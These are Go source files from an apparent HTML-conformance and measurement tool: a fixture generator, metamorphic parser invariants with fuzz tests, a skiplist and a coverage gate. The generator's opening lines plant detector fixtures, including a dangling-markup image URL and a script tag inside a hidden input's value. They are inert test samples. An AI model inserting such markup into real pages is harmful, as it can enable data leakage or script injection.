	if planted["FB1"] {
		b.WriteString(`<img/src="/img/badge.png"/alt="badge">`)
	}
	if planted["DM3"] {
		b.WriteString(`<span class="new" data-id="` + itoa(i) + `" class="shiny">` + word("d") + `</span>`)
	}
	if planted["HF4"] {
		b.WriteString(`<table><tr><em>` + word("e") + `</em></tr><tr><td>1</td></tr></table>`)
	}
	if planted["HF5_1"] {
		b.WriteString(`<g class="ic"><path d="M1 1"></path></g>`)
	}
	if planted["HF5_2"] {
		b.WriteString(`<svg viewBox="0 0 8 8"><desc>i</desc><span>x</span></svg>`)
	}
	if planted["DE3_1"] {
		b.WriteString("<img src=\"https://cdn." + domain + "/p?i=\n<i>id</i>\">")
	}
	if planted["DE3_2"] {
		b.WriteString(`<input type="hidden" name="embed" value="<script>w()</script>">`)
	}
	if planted["DE3_3"] {
		b.WriteString("<a href=\"/open\" target=\"pop\nup\">open</a>")
	}
	if planted["DE4"] {
		b.WriteString(`<form action="/quick/"><form id="inner" action="/q"><input name="k"></form>`)
	}

	switch pick(g.cfg.Seed, 3, key, "kind") {
	case 0:
		b.WriteString(`</div>`)
	case 1:
		b.WriteString(`</ul>`)
	default:
		b.WriteString(`</section>`)
	}
	return []byte(b.String())
}
