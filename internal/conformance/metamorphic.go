package conformance

import (
	"fmt"
	"strings"
	"unicode/utf8"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// The metamorphic layer: parser invariants that need no external oracle.
// Where the fixture corpus checks the parser against goldens a human
// vetted once, these four relations must hold for EVERY input, so fuzzing
// can explore inputs no fixture author thought of:
//
//  1. RenderParseFixpoint — serialize→reparse is a fixpoint outside the
//     documented raw-text hazards.
//  2. TruncationStability — tokenizer-stage errors well before a
//     truncation point are identical with and without the tail.
//  3. AttrReorderInvariance — the checker's RuleHits are deterministic
//     and unchanged when a canonical document's attributes are reordered.
//  4. DecoderAgreement — the windows-1252 fallback decoder always yields
//     valid UTF-8 and agrees with UTF-8 on ASCII input.
//
// Each invariant returns nil when it holds; metamorphic_test.go runs
// them over seeded tables and as go-native fuzz targets.

// RenderParseFixpoint checks that render(parse(render(parse(x)))) ==
// render(parse(x)). Inputs that hit a documented serialization hazard
// (see rawTextHazard) report skipped=true instead of a verdict.
func RenderParseFixpoint(input []byte) (skipped bool, err error) {
	res1, perr := htmlparse.ParseReuse(input)
	if perr != nil {
		return true, nil // non-UTF-8 input: outside the serializer's domain
	}
	if rawTextHazard(res1) {
		return true, nil
	}
	out1 := htmlparse.RenderString(res1.Doc)
	res2, perr := htmlparse.ParseReuse([]byte(out1))
	if perr != nil {
		return false, fmt.Errorf("render of %q is not parseable: %v", input, perr)
	}
	out2 := htmlparse.RenderString(res2.Doc)
	if out1 != out2 {
		return false, fmt.Errorf("fixpoint broken for %q:\n out1 %q\n out2 %q", input, out1, out2)
	}
	return false, nil
}

// rawTextHazard reports whether a parse hit one of the constructs whose
// serialization is not round-trippable by design (the caveat documented
// in htmlparse/serialize.go): a plaintext element, a script whose
// content re-enters the comment-like double-escaped state, an element
// nested inside a same-named ancestor that a straight-line re-parse
// would split apart (an a/nobr/button within another — only reachable
// by foster parenting around a table, whose formatting marker shields
// the outer element from the adoption agency), or an implied p/br
// created by a stray end tag while foreign content is open.
func rawTextHazard(res *htmlparse.Result) bool {
	if res.Doc.Find(func(n *htmlparse.Node) bool {
		if n.Type != htmlparse.ElementNode || n.Namespace != htmlparse.NamespaceHTML {
			return false
		}
		switch n.Data {
		case "plaintext":
			return true
		case "a", "nobr", "button":
			if n.Ancestor(n.Data) != nil {
				return true
			}
		}
		return n.Data == "script" && strings.Contains(n.Text(), "<!--")
	}) != nil {
		return true
	}
	hasForeign := res.Doc.Find(func(n *htmlparse.Node) bool {
		return n.Type == htmlparse.ElementNode && n.Namespace != htmlparse.NamespaceHTML
	}) != nil
	if !hasForeign {
		return false
	}
	for _, e := range res.Errors {
		if e.Code == htmlparse.ErrUnexpectedEndTag && (e.Detail == "p" || e.Detail == "br") {
			return true
		}
	}
	return false
}

// truncationMargin is the stability horizon in bytes. Tokenizer-stage
// errors are emitted at the position where they are detected, and
// detection looks ahead at most ~40 bytes (the longest named character
// reference, doctype keywords, "[CDATA["), so an error detected more
// than 64 bytes before a truncation point cannot depend on the removed
// tail.
const truncationMargin = 64

// TruncationStability checks that truncating the input does not perturb
// tokenizer-stage errors detected well before the cut: the full parse
// and the truncated parse must report exactly the same such errors.
// Tree-construction-stage errors are excluded (they are attributed to a
// token's start position when the token *completes*, so an arbitrarily
// long token breaks prefix locality); the classification lives in
// htmlparse.ErrorCode.TreeStage. cut is clamped onto a rune boundary.
func TruncationStability(input []byte, cut int) error {
	if cut < 0 {
		cut = 0
	}
	if cut > len(input) {
		cut = len(input)
	}
	for cut > 0 && cut < len(input) && !utf8.RuneStart(input[cut]) {
		cut--
	}
	full, err := htmlparse.ParseReuse(input)
	if err != nil {
		return nil // non-UTF-8 input is rejected before tokenization
	}
	trunc, err := htmlparse.ParseReuse(input[:cut])
	if err != nil {
		return fmt.Errorf("prefix of valid UTF-8 rejected: %v", err)
	}
	// Offsets are in preprocessed-stream coordinates; preprocessing only
	// shrinks (CRLF→LF, lone CR→LF), so preprocess(input[:cut]) is a
	// byte prefix of preprocess(input) and its length bounds the stable
	// region in those coordinates.
	pre, err := htmlparse.Preprocess(input[:cut])
	if err != nil {
		return fmt.Errorf("preprocess of prefix rejected: %v", err)
	}
	horizon := len(pre.Input) - truncationMargin
	stable := func(errs []htmlparse.ParseError) []string {
		var out []string
		for _, e := range errs {
			if !e.Code.TreeStage() && e.Pos.Offset < horizon {
				out = append(out, fmt.Sprintf("%s@%d", e.Code, e.Pos.Offset))
			}
		}
		return out
	}
	if d := diffStringSlices(stable(full.Errors), stable(trunc.Errors)); d != "" {
		return fmt.Errorf("stable errors diverge at cut=%d for %q:\n%s", cut, input, d)
	}
	return nil
}

// AttrReorderInvariance checks two properties of the checker over the
// canonical render of any input: Check is deterministic (two runs give
// identical RuleHits), and reversing every element's attribute order
// leaves RuleHits unchanged. The reorder happens on the parsed tree of
// the canonical render — elements there carry no duplicate attributes,
// so reversal cannot change which value wins — and the raw-syntax rules
// (FB1/FB2 et al.) see well-formed markup either way.
func AttrReorderInvariance(input []byte) error {
	res, perr := htmlparse.ParseReuse(input)
	if perr != nil {
		return nil
	}
	if rawTextHazard(res) {
		// The canonical render is only canonical when it re-parses to the
		// same tree; the documented serialization hazards (plaintext,
		// comment-like script, stray p/br end tags under foreign content)
		// break that, so the h1-vs-h2 comparison below would be comparing
		// two different trees, not two attribute orders.
		return nil
	}
	h1 := htmlparse.RenderString(res.Doc)
	checker := core.NewChecker()
	rep1, err := checker.Check([]byte(h1))
	if err != nil {
		return fmt.Errorf("check of canonical render %q: %v", h1, err)
	}
	rep1b, err := checker.Check([]byte(h1))
	if err != nil {
		return err
	}
	if d := diffRuleHits(rep1.RuleHits, rep1b.RuleHits); d != "" {
		return fmt.Errorf("checker not deterministic on %q:\n%s", h1, d)
	}
	res2, perr := htmlparse.ParseReuse([]byte(h1))
	if perr != nil {
		return fmt.Errorf("canonical render %q not parseable: %v", h1, perr)
	}
	reverseAttrs(res2.Doc)
	h2 := htmlparse.RenderString(res2.Doc)
	rep2, err := checker.Check([]byte(h2))
	if err != nil {
		return fmt.Errorf("check of reordered render %q: %v", h2, err)
	}
	if d := diffRuleHits(rep1.RuleHits, rep2.RuleHits); d != "" {
		return fmt.Errorf("rule hits changed under attribute reorder:\n h1 %q\n h2 %q\n%s", h1, h2, d)
	}
	return nil
}

func reverseAttrs(n *htmlparse.Node) {
	for i, j := 0, len(n.Attr)-1; i < j; i, j = i+1, j-1 {
		n.Attr[i], n.Attr[j] = n.Attr[j], n.Attr[i]
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		reverseAttrs(c)
	}
}

func diffRuleHits(a, b map[string]int) string {
	var diffs []string
	for id, n := range a {
		if b[id] != n {
			diffs = append(diffs, fmt.Sprintf("  %s: %d vs %d", id, n, b[id]))
		}
	}
	for id, n := range b {
		if _, ok := a[id]; !ok && n != 0 {
			diffs = append(diffs, fmt.Sprintf("  %s: 0 vs %d", id, n))
		}
	}
	return strings.Join(diffs, "\n")
}

// StreamTreeAgreement checks the streaming checker's central invariant:
// for every TreeRequired=false rule, checking a document off the raw token
// stream (no tree construction, O(1) state) yields exactly the findings,
// rule hits, and signals that the full tree-mode check computes from its
// recorded tokens. This is what licenses the crawler's -stream mode to
// report paper-comparable numbers for the streaming rule families.
//
// hazard reports whether the stream crossed a construct where its
// tokenizer-feedback mirror is documented as approximate (see
// htmlparse.TokenStream.Hazard); the fixture corpus must agree even then
// (the checked-in cases are all exact), while the fuzz target treats
// hazard+divergence as a skip rather than a failure.
func StreamTreeAgreement(input []byte) (hazard bool, err error) {
	res, perr := htmlparse.ParseReuse(input)
	ts, serr := htmlparse.NewTokenStream(input)
	if (perr == nil) != (serr == nil) {
		return false, fmt.Errorf("UTF-8 domain disagreement for %q: tree %v, stream %v", input, perr, serr)
	}
	if perr != nil {
		return false, nil // both reject non-UTF-8 input
	}
	defer ts.Close()
	checker := core.NewStreamingChecker()
	treeRep := checker.CheckParsed(&core.Page{Result: res})
	streamRep := checker.CheckTokenStream(ts)
	hazard = ts.Hazard()
	if d := diffRuleHits(treeRep.RuleHits, streamRep.RuleHits); d != "" {
		return hazard, fmt.Errorf("rule hits diverge for %q:\n%s", input, d)
	}
	if len(treeRep.Findings) != len(streamRep.Findings) {
		return hazard, fmt.Errorf("finding counts diverge for %q: tree %d, stream %d",
			input, len(treeRep.Findings), len(streamRep.Findings))
	}
	for i := range treeRep.Findings {
		if treeRep.Findings[i] != streamRep.Findings[i] {
			return hazard, fmt.Errorf("finding %d diverges for %q:\n tree   %v\n stream %v",
				i, input, treeRep.Findings[i], streamRep.Findings[i])
		}
	}
	if treeRep.Signals != streamRep.Signals {
		return hazard, fmt.Errorf("signals diverge for %q:\n tree   %+v\n stream %+v",
			input, treeRep.Signals, streamRep.Signals)
	}
	return hazard, nil
}

// win1252 maps bytes 0x80–0x9F to their windows-1252 code points per the
// WHATWG encoding index (the five unassigned bytes pass through as C1
// controls, as the spec's index prescribes). Bytes below 0x80 and from
// 0xA0 up map identically to U+0000–U+007F and U+00A0–U+00FF.
var win1252 = [32]rune{
	0x20AC, 0x0081, 0x201A, 0x0192, 0x201E, 0x2026, 0x2020, 0x2021,
	0x02C6, 0x2030, 0x0160, 0x2039, 0x0152, 0x008D, 0x017D, 0x008F,
	0x0090, 0x2018, 0x2019, 0x201C, 0x201D, 0x2022, 0x2013, 0x2014,
	0x02DC, 0x2122, 0x0161, 0x203A, 0x0153, 0x009D, 0x017E, 0x0178,
}

// DecodeWindows1252 decodes bytes as windows-1252 — the fallback
// encoding the paper's crawl pipeline (and every browser) assumes for
// undeclared legacy content. Total: every byte decodes to exactly one
// code point, so the output is always valid UTF-8.
func DecodeWindows1252(b []byte) string {
	var out strings.Builder
	out.Grow(len(b))
	for _, c := range b {
		switch {
		case c < 0x80:
			out.WriteByte(c)
		case c < 0xA0:
			out.WriteRune(win1252[c-0x80])
		default:
			out.WriteRune(rune(c))
		}
	}
	return out.String()
}

// DecoderAgreement checks the two decoder paths against each other:
// DecodeWindows1252 must always produce valid UTF-8 that the parser
// accepts, and on pure-ASCII input — where the two encodings coincide
// by construction — the windows-1252 parse and the direct UTF-8 parse
// must agree on the error-code sequence and the tree dump.
func DecoderAgreement(input []byte) error {
	decoded := DecodeWindows1252(input)
	if !utf8.ValidString(decoded) {
		return fmt.Errorf("windows-1252 decode of %q is not valid UTF-8", input)
	}
	resW, err := htmlparse.ParseReuse([]byte(decoded))
	if err != nil {
		return fmt.Errorf("windows-1252 decode of %q rejected by parser: %v", input, err)
	}
	for _, c := range input {
		if c >= 0x80 {
			return nil // encodings legitimately diverge outside ASCII
		}
	}
	if decoded != string(input) {
		return fmt.Errorf("windows-1252 decode changed ASCII input %q to %q", input, decoded)
	}
	resU, err := htmlparse.ParseReuse(input)
	if err != nil {
		return fmt.Errorf("ASCII input %q rejected as UTF-8: %v", input, err)
	}
	codes := func(errs []htmlparse.ParseError) []string {
		out := make([]string, len(errs))
		for i, e := range errs {
			out[i] = fmt.Sprintf("%s@%d", e.Code, e.Pos.Offset)
		}
		return out
	}
	if d := diffStringSlices(codes(resU.Errors), codes(resW.Errors)); d != "" {
		return fmt.Errorf("decoder paths disagree on errors for %q:\n%s", input, d)
	}
	if du, dw := htmlparse.DumpTree(resU.Doc), htmlparse.DumpTree(resW.Doc); du != dw {
		return fmt.Errorf("decoder paths disagree on tree for %q:\n--- utf8 ---\n%s\n--- win1252 ---\n%s", input, du, dw)
	}
	return nil
}
