package conformance

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func writeTestFile(t *testing.T, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "cases.test")
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestParseTestFileExpandsInitialStates(t *testing.T) {
	path := writeTestFile(t, `{"tests": [
		{"description": "plain", "input": "x", "output": [["Character", "x"]]},
		{"description": "states", "input": "y", "output": [["Character", "y"]],
		 "initialStates": ["RCDATA state", "RAWTEXT state"], "lastStartTag": "title"}
	]}`)
	cases, err := ParseTestFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(cases) != 3 {
		t.Fatalf("got %d cases, want 3", len(cases))
	}
	if cases[0].InitialState != "Data state" || cases[0].ID() != "cases.test:plain@Data state" {
		t.Errorf("case 0 = %+v", cases[0])
	}
	if cases[1].InitialState != "RCDATA state" || cases[2].InitialState != "RAWTEXT state" {
		t.Errorf("states not expanded: %+v / %+v", cases[1], cases[2])
	}
	if cases[1].BaseID() != "cases.test:states" {
		t.Errorf("BaseID = %q", cases[1].BaseID())
	}
}

func TestParseTestFileRequiresDescription(t *testing.T) {
	path := writeTestFile(t, `{"tests": [{"input": "x", "output": []}]}`)
	if _, err := ParseTestFile(path); err == nil {
		t.Error("test without description accepted")
	}
}

func TestUnescapeDouble(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`a\u0041b`, "aAb"},
		{`\u0000`, "\x00"},
		{`\uD83D\uDE00`, "\U0001F600"}, // surrogate pair combines
		{`\uD800x`, "\uFFFDx"},         // lone surrogate
		{`a\u00`, `a\u00`},             // truncated escape left alone
		{`plain`, "plain"},
		{`back\\slash`, `back\\slash`}, // only \u is special
	} {
		if got := unescapeDouble(tc.in); got != tc.want {
			t.Errorf("unescapeDouble(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestRunTokenizerShapes(t *testing.T) {
	outs, errs, err := RunTokenizer(&TokenCase{
		Input: `a<div id="x">b<!--c--></div><!DOCTYPE html>`, InitialState: "Data state",
	})
	if err != nil {
		t.Fatal(err)
	}
	got := make([]string, len(outs))
	for i, o := range outs {
		got[i] = string(o)
	}
	want := []string{
		`["Character","a"]`,
		`["StartTag","div",{"id":"x"}]`,
		`["Character","b"]`,
		`["Comment","c"]`,
		`["EndTag","div"]`,
		`["DOCTYPE","html",null,null,true]`,
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("tokens:\n got  %v\n want %v", got, want)
	}
	if len(errs) != 0 {
		t.Errorf("unexpected errors: %v", errs)
	}
}

func TestRunTokenizerSelfClosingAndErrors(t *testing.T) {
	outs, errs, err := RunTokenizer(&TokenCase{Input: `<br/><div a=>`, InitialState: "Data state"})
	if err != nil {
		t.Fatal(err)
	}
	if string(outs[0]) != `["StartTag","br",{},true]` {
		t.Errorf("self-closing tuple = %s", outs[0])
	}
	if len(errs) != 1 || errs[0].Code != "missing-attribute-value" {
		t.Errorf("errors = %v", errs)
	}
	if errs[0].Line != 1 || errs[0].Col == 0 {
		t.Errorf("error position not recorded: %+v", errs[0])
	}
}

func TestDiffTokensAttrOrderInsensitive(t *testing.T) {
	want := []json.RawMessage{jsonCompact([]any{"StartTag", "a", map[string]any{"b": "2", "a": "1"}})}
	got := []json.RawMessage{jsonCompact([]any{"StartTag", "a", map[string]any{"a": "1", "b": "2"}})}
	d, err := diffTokens(want, got)
	if err != nil {
		t.Fatal(err)
	}
	if d != "" {
		t.Errorf("attr order should not matter:\n%s", d)
	}
	got[0] = jsonCompact([]any{"StartTag", "a", map[string]any{"a": "1", "b": "3"}})
	if d, _ := diffTokens(want, got); d == "" {
		t.Error("differing attr value not detected")
	}
}

func TestDiffErrorsPositionLeniency(t *testing.T) {
	got := []ExpectedError{{Code: "eof-in-tag", Line: 1, Col: 6}}
	if d := diffErrors([]ExpectedError{{Code: "eof-in-tag"}}, got); d != "" {
		t.Errorf("code-only expectation should match: %s", d)
	}
	if d := diffErrors([]ExpectedError{{Code: "eof-in-tag", Line: 1, Col: 5}}, got); d == "" {
		t.Error("wrong position accepted")
	}
	if d := diffErrors([]ExpectedError{{Code: "eof-in-comment"}}, got); d == "" {
		t.Error("wrong code accepted")
	}
}

func TestFormatTestFileRejectsDivergentStates(t *testing.T) {
	cases := []TokenCase{
		{File: "x.test", Index: 0, Description: "d", Input: "&amp;",
			Output:       []json.RawMessage{jsonCompact([]any{"Character", "&"})},
			InitialState: "RCDATA state"},
		{File: "x.test", Index: 0, Description: "d", Input: "&amp;",
			Output:       []json.RawMessage{jsonCompact([]any{"Character", "&amp;"})},
			InitialState: "RAWTEXT state"},
	}
	if _, err := FormatTestFile(cases); err == nil {
		t.Error("divergent per-state goldens accepted")
	}
}

func TestFormatTestFileRoundTrip(t *testing.T) {
	in := []TokenCase{
		{File: "x.test", Index: 0, Description: "a", Input: "<p>",
			Output:       []json.RawMessage{jsonCompact([]any{"StartTag", "p", map[string]string{}})},
			InitialState: "Data state"},
		{File: "x.test", Index: 1, Description: "b", Input: "x",
			Output:       []json.RawMessage{jsonCompact([]any{"Character", "x"})},
			Errors:       []ExpectedError{{Code: "some-code", Line: 1, Col: 1}},
			InitialState: "RCDATA state", LastStartTag: "title"},
	}
	content, err := FormatTestFile(in)
	if err != nil {
		t.Fatal(err)
	}
	out, err := ParseTestFile(writeTestFile(t, content))
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != 2 {
		t.Fatalf("got %d cases, want 2", len(out))
	}
	for i := range in {
		if out[i].Description != in[i].Description || out[i].Input != in[i].Input ||
			out[i].InitialState != in[i].InitialState || out[i].LastStartTag != in[i].LastStartTag {
			t.Errorf("case %d diverged: %+v -> %+v", i, in[i], out[i])
		}
	}
	if len(out[1].Errors) != 1 || out[1].Errors[0] != in[1].Errors[0] {
		t.Errorf("errors diverged: %v", out[1].Errors)
	}
}
