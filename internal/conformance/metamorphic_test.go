package conformance

import (
	"testing"
)

// Seed inputs shared by the table tests and the fuzz targets: small
// documents that exercise the constructs each invariant is most likely
// to trip over (raw text, tables, foreign content, character
// references, truncation-sensitive multi-byte runes).
var metamorphicSeeds = []string{
	"",
	"x",
	"<!DOCTYPE html><p>hello</p>",
	"<div><span>a</span></div>",
	"<!DOCTYPE html><table><tr><td>x</td></tr></table>",
	"<table><div>foster</div></table>",
	"<!DOCTYPE html><svg><rect/></svg>",
	"<math><mi>x</mi></math>",
	"<!DOCTYPE html><script>var a = 1 < 2;</script>",
	"<title>a<b>c</title>",
	"<textarea>&amp;</textarea>",
	"<!DOCTYPE html><body>&notit; &#x41; &#xFDD0;</body>",
	"<p id=a id=b class='c'>dup</p>",
	"<b><p>misnest</b></p>",
	"<a href=1><a href=2>x</a>",
	"<select><option>a<option>b</select>",
	"<!-- comment --><!DOCTYPE html><p>x",
	"<ul><li>a<li>b</ul>",
	"a\r\nb\rc",
	"héllo wörld é世界",
	"<div/>self-closing</div>",
	"<!DOCTYPE html PUBLIC \"p\" \"s\"><body>x",
	"<frameset><frame></frameset>",
	"<img src=a alt=b><br><hr>",
}

func TestRenderParseFixpointSeeds(t *testing.T) {
	skipped := 0
	for _, s := range metamorphicSeeds {
		skip, err := RenderParseFixpoint([]byte(s))
		if err != nil {
			t.Errorf("%v", err)
		}
		if skip {
			skipped++
		}
	}
	if skipped == len(metamorphicSeeds) {
		t.Fatal("every seed skipped; hazard detection is broken")
	}
}

func TestTruncationStabilitySeeds(t *testing.T) {
	for _, s := range metamorphicSeeds {
		for _, cut := range []int{0, 1, len(s) / 2, len(s) - 1, len(s)} {
			if err := TruncationStability([]byte(s), cut); err != nil {
				t.Errorf("%v", err)
			}
		}
	}
}

func TestAttrReorderInvarianceSeeds(t *testing.T) {
	for _, s := range metamorphicSeeds {
		if err := AttrReorderInvariance([]byte(s)); err != nil {
			t.Errorf("%v", err)
		}
	}
}

func TestDecoderAgreementSeeds(t *testing.T) {
	inputs := append([]string{}, metamorphicSeeds...)
	// Non-ASCII bytes exercise the decode-always-valid half.
	inputs = append(inputs, "\x80\x9f\xa0\xff", "caf\xe9 <p>\x93quoted\x94</p>")
	for _, s := range inputs {
		if err := DecoderAgreement([]byte(s)); err != nil {
			t.Errorf("%v", err)
		}
	}
}

// TestDecodeWindows1252Table pins the 0x80–0x9F mapping against known
// points of the WHATWG encoding index.
func TestDecodeWindows1252Table(t *testing.T) {
	for _, tc := range []struct {
		in   byte
		want rune
	}{
		{0x80, '€'}, // euro sign
		{0x85, '…'}, // horizontal ellipsis
		{0x93, '“'}, // left double quotation mark
		{0x9F, 'Ÿ'}, // Y with diaeresis
		{0x81, ''}, // unassigned: passes through as C1 control
		{0x7F, ''}, // ASCII boundary
		{0xA0, ' '}, // latin-1 identity from 0xA0 up
		{0xFF, 'ÿ'},
	} {
		if got := DecodeWindows1252([]byte{tc.in}); got != string(tc.want) {
			t.Errorf("DecodeWindows1252(0x%02X) = %q, want %q", tc.in, got, string(tc.want))
		}
	}
}

func FuzzRenderParseFixpoint(f *testing.F) {
	for _, s := range metamorphicSeeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, input []byte) {
		if _, err := RenderParseFixpoint(input); err != nil {
			t.Error(err)
		}
	})
}

func FuzzTruncationStability(f *testing.F) {
	for i, s := range metamorphicSeeds {
		f.Add([]byte(s), i*3)
	}
	f.Fuzz(func(t *testing.T, input []byte, cut int) {
		if err := TruncationStability(input, cut); err != nil {
			t.Error(err)
		}
	})
}

func FuzzAttrReorderInvariance(f *testing.F) {
	for _, s := range metamorphicSeeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, input []byte) {
		if err := AttrReorderInvariance(input); err != nil {
			t.Error(err)
		}
	})
}

func FuzzDecoderAgreement(f *testing.F) {
	for _, s := range metamorphicSeeds {
		f.Add([]byte(s))
	}
	f.Add([]byte{0x80, 0x9F, 0xC3, 0x28})
	f.Fuzz(func(t *testing.T, input []byte) {
		if err := DecoderAgreement(input); err != nil {
			t.Error(err)
		}
	})
}
