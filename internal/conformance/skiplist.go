package conformance

import (
	"bufio"
	"fmt"
	"os"
	"strings"
)

// Skiplist holds the known-divergence ledger: fixture cases the parser
// is allowed to fail, each with a mandatory human-written reason. The
// policy mirrors hvlint's: a skip without a reason is a parse error,
// and a skiplist entry that no longer matches any fixture is reported
// as stale so the list can only shrink or stay honest.
//
// File format, one entry per line:
//
//	# comment
//	tree.dat:17          -- reason the case is skipped
//	tok.test:bad amp     -- reason (applies to every initial state)
//	tok.test:bad amp@PLAINTEXT state -- reason (one state only)
type Skiplist struct {
	reasons map[string]string
	used    map[string]bool
}

// ParseSkiplist reads a skiplist file. A missing path yields an empty
// skiplist; a malformed entry (no reason) is an error.
func ParseSkiplist(path string) (*Skiplist, error) {
	s := &Skiplist{reasons: map[string]string{}, used: map[string]bool{}}
	if path == "" {
		return s, nil
	}
	f, err := os.Open(path)
	if os.IsNotExist(err) {
		return s, nil
	}
	if err != nil {
		return nil, err
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for n := 1; sc.Scan(); n++ {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		key, reason, ok := strings.Cut(line, " -- ")
		key, reason = strings.TrimSpace(key), strings.TrimSpace(reason)
		if !ok || reason == "" {
			return nil, fmt.Errorf("%s:%d: skiplist entry %q has no reason (format: \"case-id -- reason\")", path, n, line)
		}
		if key == "" {
			return nil, fmt.Errorf("%s:%d: skiplist entry has empty case id", path, n)
		}
		if _, dup := s.reasons[key]; dup {
			return nil, fmt.Errorf("%s:%d: duplicate skiplist entry %q", path, n, key)
		}
		s.reasons[key] = reason
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return s, nil
}

// Lookup reports whether any of the given IDs is skiplisted, returning
// the reason. Callers pass the most specific ID first (e.g. the
// state-qualified token-case ID, then its base ID).
func (s *Skiplist) Lookup(ids ...string) (reason string, ok bool) {
	for _, id := range ids {
		if r, hit := s.reasons[id]; hit {
			s.used[id] = true
			return r, true
		}
	}
	return "", false
}

// Stale returns entries that never matched a fixture during the run —
// fixed divergences whose skip should be deleted, or typoed IDs.
func (s *Skiplist) Stale() []string {
	var stale []string
	for key := range s.reasons {
		if !s.used[key] {
			stale = append(stale, key)
		}
	}
	return stale
}
