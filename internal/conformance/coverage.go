package conformance

import (
	"fmt"
	"sort"
	"strings"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// The per-ErrorCode coverage gate. The corpus is only worth running if
// it exercises every parse error the measurement layer counts, so the
// gate diffs the set of codes the corpus actually provoked against the
// core.SpecCoverage ledger: an emitted code with zero provoking
// fixtures fails the run. Codes in core.UnemittedCodes are reported as
// justified-unreachable rather than failing — their justification lives
// in the ledger, next to the claim it defends.

// Coverage accumulates which error codes the corpus provoked.
type Coverage struct {
	hits map[htmlparse.ErrorCode]int
}

// NewCoverage returns an empty coverage accumulator.
func NewCoverage() *Coverage { return &Coverage{hits: map[htmlparse.ErrorCode]int{}} }

// RecordCode counts one observed parse error code.
func (c *Coverage) RecordCode(code htmlparse.ErrorCode) { c.hits[code]++ }

// RecordNames counts observed codes given by spec name (as fixture
// #errors sections carry them).
func (c *Coverage) RecordNames(names []string) {
	for _, n := range names {
		c.hits[htmlparse.ErrorCode(n)]++
	}
}

// CoverageLine is one row of the coverage report.
type CoverageLine struct {
	Code htmlparse.ErrorCode
	Hits int
	// Unreachable carries the core.UnemittedCodes justification for
	// codes the parser cannot emit; empty for emitted codes.
	Unreachable string
}

// Report renders the gate's verdict over the full ledger (one line per
// declared ErrorCode, sorted by code name) plus the list of emitted
// codes with zero corpus coverage. A non-empty missing list fails the
// conformance run.
func (c *Coverage) Report() (lines []CoverageLine, missing []htmlparse.ErrorCode) {
	for _, row := range core.SpecCoverage() {
		n := c.hits[row.Code]
		lines = append(lines, CoverageLine{Code: row.Code, Hits: n})
		if n == 0 {
			missing = append(missing, row.Code)
		}
	}
	for code, why := range core.UnemittedCodes() {
		lines = append(lines, CoverageLine{Code: code, Hits: c.hits[code], Unreachable: why})
	}
	sort.Slice(lines, func(i, j int) bool { return lines[i].Code < lines[j].Code })
	sort.Slice(missing, func(i, j int) bool { return missing[i] < missing[j] })
	return lines, missing
}

// Markdown renders the coverage table as GitHub-flavored markdown for
// the CI step summary.
func (c *Coverage) Markdown() string {
	lines, missing := c.Report()
	var b strings.Builder
	b.WriteString("| error code | fixtures | status |\n|---|---:|---|\n")
	for _, l := range lines {
		status := "covered"
		switch {
		case l.Unreachable != "":
			status = "justified-unreachable: " + l.Unreachable
		case l.Hits == 0:
			status = "**MISSING**"
		}
		fmt.Fprintf(&b, "| `%s` | %d | %s |\n", l.Code, l.Hits, status)
	}
	if len(missing) > 0 {
		fmt.Fprintf(&b, "\n%d emitted code(s) with no provoking fixture.\n", len(missing))
	}
	return b.String()
}
