package conformance

import (
	"strings"
	"testing"
)

func TestParseDat(t *testing.T) {
	content := strings.Join([]string{
		"#data",
		"<p>x",
		"#errors",
		"unexpected-token-in-initial-insertion-mode",
		"#document",
		"| <html>",
		"|   <head>",
		"|   <body>",
		"|     <p>",
		`|       "x"`,
		"",
		"#data",
		"<td>a",
		"#errors",
		"#document-fragment",
		"tr",
		"#document",
		"| <td>",
		`|   "a"`,
		"",
	}, "\n")
	cases, err := ParseDat("x.dat", content)
	if err != nil {
		t.Fatal(err)
	}
	if len(cases) != 2 {
		t.Fatalf("got %d cases, want 2", len(cases))
	}
	c0, c1 := cases[0], cases[1]
	if c0.Data != "<p>x" || c0.Line != 1 || c0.ID() != "x.dat:1" {
		t.Errorf("case 0 = %+v", c0)
	}
	if len(c0.Errors) != 1 || c0.Errors[0] != "unexpected-token-in-initial-insertion-mode" {
		t.Errorf("case 0 errors = %v", c0.Errors)
	}
	if !strings.HasPrefix(c0.Document, "| <html>") || !strings.HasSuffix(c0.Document, `|       "x"`) {
		t.Errorf("case 0 document = %q", c0.Document)
	}
	if c1.Fragment != "tr" || c1.Data != "<td>a" || c1.Line != 12 {
		t.Errorf("case 1 = %+v", c1)
	}
}

func TestParseDatMultilineData(t *testing.T) {
	cases, err := ParseDat("x.dat", "#data\n<pre>\na\nb</pre>\n#errors\n#document\n")
	if err != nil {
		t.Fatal(err)
	}
	if want := "<pre>\na\nb</pre>"; cases[0].Data != want {
		t.Errorf("data = %q, want %q", cases[0].Data, want)
	}
}

func TestParseDatRejectsMalformed(t *testing.T) {
	if _, err := ParseDat("x.dat", "#data\n#errors\n#document\n"); err == nil {
		t.Error("empty #data accepted")
	}
	if _, err := ParseDat("x.dat", "stray content\n#data\nx\n#errors\n#document\n"); err == nil {
		t.Error("content outside a case accepted")
	}
}

func TestFormatDatRoundTrip(t *testing.T) {
	in := []TreeCase{
		{File: "x.dat", Data: "<p>x", Errors: []string{"a-code"}, Document: "| <p>\n|   \"x\""},
